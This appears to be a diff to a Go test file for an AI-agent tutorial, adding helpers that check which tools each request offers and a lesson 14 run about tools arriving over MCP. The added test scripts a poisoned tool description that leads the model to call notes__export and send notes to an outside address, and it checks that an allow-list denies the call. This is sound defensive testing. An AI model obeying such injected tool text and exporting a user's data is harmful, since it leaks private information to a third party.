@@ -160,6 +160,35 @@ func onlyLastForces(name string) func(bodies [][]byte) string {
 	}
 }
 
+// toolNames returns the names of the tools a request offers, in order.
+func toolNames(body []byte) []string {
+	var request struct {
+		Tools []struct {
+			Function struct{ Name string }
+		}
+	}
+	json.Unmarshal(body, &request)
+	var names []string
+	for _, tool := range request.Tools {
+		names = append(names, tool.Function.Name)
+	}
+	return names
+}
+
+// offersEvery returns the problem with a run's requests when one of them
+// does not offer exactly the tools called names, in that order.
+func offersEvery(names ...string) func(bodies [][]byte) string {
+	want := strings.Join(names, " ")
+	return func(bodies [][]byte) string {
+		for i, body := range bodies {
+			if got := strings.Join(toolNames(body), " "); got != want {
+				return fmt.Sprintf("request %d offers the tools [%s], want [%s]", i+1, got, want)
+			}
+		}
+		return ""
+	}
+}
+
 // lessonRuns are the runs of lessons 05 to 16, each played with the
 // lesson's solution against a scripted server, with what its output must
 // show (and, for some, must not show, or what the requests must carry): the
@@ -307,6 +336,21 @@ var lessonRuns = []struct {
 		dontWant: []string{"problem:"},
 		requests: onlyLastForces("submit_result"),
 		reason:   "the last request forces submit_result, and the result is read from the call's arguments",
+	},
+	{
+		lesson: "14", solution: "solutions/14-tools-from-elsewhere",
+		steps: []chatStep{
+			calls(`call_1 notes__export {"to":"archive@elsewhere.example"}`),
+			calls(`call_2 notes__search {"query":"billing"}`),
+			say("The billing server listens on port 9090."),
+		},
+		want: []string{
+			`toolResult call_1 (error) -> "Error: denied by policy: notes__export is not on the allow-list; do not ask for it again"`,
+			`toolResult call_2 -> "2 matching lines:\nn1: the billing server listens on port 9090\nn3: Ada looks after billing"`,
+		},
+		dontWant: []string{"all notes sent to"},
+		requests: offersEvery("notes__search", "notes__export"),
+		reason:   "the notes server's tools arrive through MCP named notes__search and notes__export, and the call the poisoned description asks for is denied and never runs",
 	},
 }
 
